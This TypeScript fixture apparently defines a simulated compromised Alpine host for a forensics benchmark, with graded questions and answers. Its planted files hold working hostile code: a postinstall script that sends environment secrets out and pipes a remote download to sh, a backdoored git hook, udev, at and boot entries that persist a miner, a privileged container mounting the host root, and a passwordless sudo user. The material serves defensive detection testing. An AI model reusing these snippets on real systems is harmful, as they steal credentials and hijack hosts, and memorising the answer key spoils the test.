/** Alpine, Node and Docker: a package whose install script steals, and a container that holds the host. */
import { account, entered, type Host, inTimeline, outbound, stays } from './host.ts';

export const alpineNode: Host = {
  name: 'Alpine with Node and Docker',
  files: {
    'root/.npm/_logs/2026-11-16T14_22_07_114Z-debug-0.log': [
      '0 verbose cli /usr/bin/node /usr/lib/node_modules/npm/bin/npm-cli.js',
      '1 info using npm@10.8.2',
      '2 info using node@v20.15.1',
      '3 verbose title npm install',
      '214 http fetch GET 200 https://registry.npmjs.org/pay-form-utils 141ms (cache miss)',
      '230 info run pay-form-utils@2.4.9 postinstall node_modules/pay-form-utils node lib/check.js',
      '231 info run pay-form-utils@2.4.9 postinstall { code: 0, signal: null }',
      '240 verbose exit 0',
      '',
    ].join('\n'),
    'srv/app/node_modules/pay-form-utils/package.json': JSON.stringify(
      { name: 'pay-form-utils', version: '2.4.9', scripts: { postinstall: 'node lib/check.js', test: 'tap' } },
      null,
      2,
    ),
    'srv/app/node_modules/pay-form-utils/lib/check.js':
      "const { exec } = require('child_process'); const https = require('https');\nconst h = Buffer.from('aHR0cHM6Ly90ZWxlbWV0cnkubnBtLWNkbi5leGFtcGxlL2k=', 'base64').toString();\nconst r = https.request(h, { method: 'POST' }); r.write(JSON.stringify(process.env)); r.end();\nexec('wget -qO- http://198.18.30.2/ld | sh');\n",
    'srv/app/node_modules/left-pad/package.json':
      '{"name":"left-pad","version":"1.3.0","scripts":{"test":"node test"}}',
    'srv/app/node_modules/husky/package.json': '{"name":"husky","version":"9.0.1","bin":{"husky":"bin.js"}}',
    'srv/app/.git/hooks/post-merge': '#!/bin/sh\n(wget -qO- http://198.18.30.2/gh | sh) >/dev/null 2>&1 &\n',
    'srv/app/.git/hooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n',
    'srv/app/.git/hooks/pre-push.sample': '#!/bin/sh\n# An example hook script\nexit 0\n',
    'etc/udev/rules.d/60-block-stat.rules':
      'KERNEL=="sd*", ACTION=="change", RUN+="/bin/sh -c \'/usr/share/misc/.bst &\'"\n',
    'var/spool/cron/atjobs/a0000b01c2f1e4':
      "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/sbin:/usr/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/usr/share/misc/.bst -o stratum+tcp://pool.hash-vault.example:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\n",
    'etc/local.d/zz-tune.start':
      '#!/bin/sh\nsysctl -q vm.nr_hugepages=1280\nsetsid /usr/share/misc/.bst >/dev/null 2>&1 &\n',
    'etc/local.d/hwclock.start': '#!/bin/sh\nhwclock --hctosys\n',
    'root/.ash_history':
      'apk update\ncd /srv/app\nnpm install\nrc-service app restart\ndocker run -d --name k8s-pause --restart always --privileged --pid host -v /:/hostfs alpine:3.20 chroot /hostfs /usr/share/misc/.bst\nadduser -D -s /bin/ash -G wheel ntpd\necho "ntpd ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n',
    'docker-inspect.json': JSON.stringify([
      {
        Id: 'ab12',
        Name: '/k8s-pause',
        Created: '2026-11-16T14:40:11.120Z',
        Path: 'chroot',
        Args: ['/hostfs', '/usr/share/misc/.bst'],
        HostConfig: { Binds: ['/:/hostfs'], Privileged: true, PidMode: 'host', RestartPolicy: { Name: 'always' } },
      },
      {
        Id: 'cd34',
        Name: '/app',
        Created: '2026-10-02T08:00:00Z',
        Path: 'docker-entrypoint.sh',
        Args: ['node', 'server.js'],
        HostConfig: { Binds: ['/srv/app/data:/data'], Privileged: false },
      },
    ]),
    'etc/passwd':
      'root:x:0:0:root:/root:/bin/ash\nnode:x:1000:1000::/srv/app:/sbin/nologin\nntp:x:123:123:NTP:/var/empty:/sbin/nologin\nntpd:x:1001:1001::/home/ntpd:/bin/ash\n',
    'etc/sudoers': 'root ALL=(ALL:ALL) ALL\n%wheel ALL=(ALL:ALL) ALL\nntpd ALL=(ALL) NOPASSWD: ALL\n',
    'var/log/messages':
      'Nov 16 14:41:30 app1 auth.info adduser[4410]: new user: name=ntpd, UID=1001\nNov 16 14:42:00 app1 daemon.info crond[201]: wakeup dt=60\n',
  },
  questions: [
    entered(/pay-form-utils/, '2026-11-16T14:22:07Z'),
    stays('pay-form-utils/lib/check.js', '198.18.30.2'),
    outbound('198.18.30.2'),
    outbound('telemetry.npm-cdn.example'),
    stays('.git/hooks/post-merge', '198.18.30.2'),
    stays('60-block-stat.rules', '.bst'),
    stays('a0000b01c2f1e4', '.bst'),
    stays('zz-tune.start', '.bst'),
    stays('docker-inspect.json', '/hostfs'),
    stays('etc/sudoers', 'ntpd'),
    outbound('pool.hash-vault.example:3333'),
    outbound('48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'),
    account('ntpd'),
    inTimeline(/k8s-pause|container/, '2026-11-16T14:40:11Z'),
  ],
};
